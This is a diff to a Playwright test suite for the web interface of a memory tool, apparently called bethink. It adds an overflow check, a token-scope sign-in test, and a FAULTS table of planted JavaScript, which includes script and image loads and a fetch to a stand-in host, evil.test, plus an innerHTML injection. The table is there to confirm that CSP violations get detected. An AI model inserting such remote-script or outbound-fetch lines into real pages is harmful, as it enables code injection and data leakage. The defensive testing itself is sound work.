@@ -16,7 +16,15 @@ from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
 
 from bethink import Memory
 from bethink.model import Draft
-from inspected import SCRIPT, Faults, Inspector, room, running_browser, running_inspector
+from inspected import (
+    SCRIPT,
+    Faults,
+    Inspector,
+    room,
+    running_browser,
+    running_inspector,
+    running_server,
+)
 from naughty import NAUGHTY
 
 pytestmark = [pytest.mark.timeout(180), pytest.mark.slow]
@@ -369,6 +377,11 @@ def test_no_page_is_wider_than_the_screen(page: Page, demo: Inspector, width: in
         settle(page)
         overflow = page.evaluate("document.documentElement.scrollWidth - innerWidth")
         assert overflow <= 0, path
+        # Short texts are never cut off: neither axe nor a picture would show it.
+        cut = page.locator("h1, h2, .button, .tabs button, .nav a, .hit-rank").evaluate_all(
+            "all => all.filter(one => one.scrollWidth > one.clientWidth + 1).map(one => one.innerText)"
+        )
+        assert cut == [], path
 
 
 def test_a_link_works_once_and_the_cookie_is_out_of_reach(
@@ -452,6 +465,66 @@ def test_who_may_only_read_sees_no_buttons_that_write(browser: Browser, tmp_path
         assert refused.status == 403
         assert faults.found == []
         context.close()
+
+
+def test_a_token_opens_what_its_scope_allows(browser: Browser, tmp_path: Path) -> None:
+    """`bethink serve` has the same page; a token that only reads sees no buttons that write."""
+    with Memory.open(path=_space(tmp_path, "quiet"), embedder="none") as memory:
+        item = memory.remember("The heron is grey").id
+    env = room(tmp_path) | {"BETHINK_EMBEDDER": "none"}
+    made = subprocess.run(
+        [SCRIPT, "token", "create", "eyes", "--scope", "read", "--space", "quiet"],
+        env=env, cwd=tmp_path, check=True, capture_output=True, text=True,
+    )  # fmt: skip
+    with running_server(tmp_path, "quiet", "--require-token", BETHINK_EMBEDDER="none") as url:
+        context = browser.new_context()
+        page = context.new_page()
+        faults = Faults(url)
+        faults.expected = {403}
+        faults.watch(page)
+        page.goto(f"{url}/ui/memories/{item}")
+        page.get_by_label("Token").fill("bt_wrong")
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_role("alert")).to_contain_text("this token is not valid here")
+        page.get_by_label("Token").fill(made.stdout.strip())
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.locator(".text").filter(has_text="The heron is grey")).to_be_visible()
+        expect(page.get_by_role("button", name="Correct")).to_have_count(0)
+        page.get_by_role("button", name="Sign out").click()
+        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+        assert faults.found == []
+        context.close()
+
+
+FAULTS = {
+    "console": "console.error('planted')",
+    "error": "setTimeout(() => { throw new Error('planted'); })",
+    "TrustedScriptURL": "{const s = document.createElement('script'); s.src = 'https://evil.test/x.js';"
+    " document.body.append(s);}",
+    "img-src": "document.body.append(Object.assign(new Image(), {src: 'https://evil.test/x.png'}))",
+    "style-src": "document.body.setAttribute('style', 'color: red')",
+    "require-trusted-types-for": "document.body.innerHTML += '<b>planted</b>'",
+    "answer 404": "fetch('/v1/nothing')",
+    "connect-src": "fetch('https://evil.test/').catch(() => {})",
+}
+
+
+@pytest.mark.parametrize("kind", FAULTS)
+def test_the_fixture_sees_every_kind_of_fault(
+    signed_in: BrowserContext, demo: Inspector, kind: str
+) -> None:
+    """What these tests would overlook is planted here, once each."""
+    page, faults = signed_in.new_page(), Faults(demo.url)
+    faults.watch(page)
+    page.goto(f"{demo.url}/ui/ask")
+    expect(page.get_by_role("heading", name="Ask")).to_be_visible()
+    page.evaluate(f"() => {{ try {{ {FAULTS[kind]} }} catch (error) {{ void error; }} }}")
+    page.wait_for_timeout(150)
+    page.close()
+
+    assert any(
+        kind.split(" ", maxsplit=1)[0] in told or "planted" in told for told in faults.found
+    ), kind
 
 
 def test_hostile_memories_are_only_text(browser: Browser, tmp_path: Path) -> None:
